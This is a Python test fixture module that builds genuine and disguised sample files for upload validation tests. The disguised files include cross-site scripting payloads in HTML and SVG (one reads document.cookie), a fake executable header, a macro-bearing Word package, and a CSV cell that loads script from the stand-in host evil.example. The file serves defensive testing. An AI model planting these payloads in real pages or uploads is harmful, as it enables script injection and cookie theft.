"""Small files of each kind, real and disguised, for upload tests."""

import io
import zipfile

from tests.factories import PDF_CONTENT

PDF = PDF_CONTENT


def _zip(entries, *, first=None):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        if first:
            # OpenDocument's "mimetype" entry comes first and is stored uncompressed.
            package.writestr(zipfile.ZipInfo(first[0]), first[1], compress_type=zipfile.ZIP_STORED)
        for name, content in entries.items():
            package.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def ooxml(main_part):
    return _zip({"[Content_Types].xml": "<Types/>", "_rels/.rels": "<Relationships/>", main_part: "<x/>"})


def odf(kind):
    return _zip(
        {"content.xml": "<office:document-content/>", "META-INF/manifest.xml": "<manifest/>"},
        first=("mimetype", f"application/vnd.oasis.opendocument.{kind}"),
    )


DOCX = ooxml("word/document.xml")
XLSX = ooxml("xl/workbook.xml")
PPTX = ooxml("ppt/presentation.xml")
ODT, ODS, ODP = odf("text"), odf("spreadsheet"), odf("presentation")
TXT = "Notes from the meeting — agreed actions follow.\n".encode()
CSV = b"platform,count\nInstagram,4\nSnapchat,7\n"

# Each of the allowed kinds, with content that really is that kind.
GENUINE = {
    "report.pdf": PDF,
    "report.docx": DOCX,
    "figures.xlsx": XLSX,
    "slides.pptx": PPTX,
    "report.odt": ODT,
    "figures.ods": ODS,
    "slides.odp": ODP,
    "notes.txt": TXT,
    "figures.csv": CSV,
}

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"This program cannot be run"
MACRO_DOCX = _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>", "word/vbaProject.bin": "\x00\x01"})

# Files that are not what their name says.
DISGUISED = {
    "page.pdf": HTML,
    "drawing.pdf": SVG,
    "program.pdf": EXE,
    "program.docx": EXE,
    "page.docx": HTML,
    "spreadsheet.docx": XLSX,  # a real package, but not a Word document
    "macros.docx": MACRO_DOCX,
    "text.odt": ODS,
    "zip.xlsx": _zip({"readme.txt": "hello"}),
    "page.txt": HTML,
    "drawing.csv": SVG,
    "formula.csv": b'name,link\nx,"<script src=//evil.example/x.js></script>"\n',
    "binary.txt": EXE,
    "latin1.csv": "caf\xe9,1\n".encode("latin-1"),
}
# Allowed nowhere, whatever they contain.
REFUSED_TYPES = {"page.html": HTML, "drawing.svg": SVG, "program.exe": EXE, "photo.jpg": b"\xff\xd8\xff\xe0"}
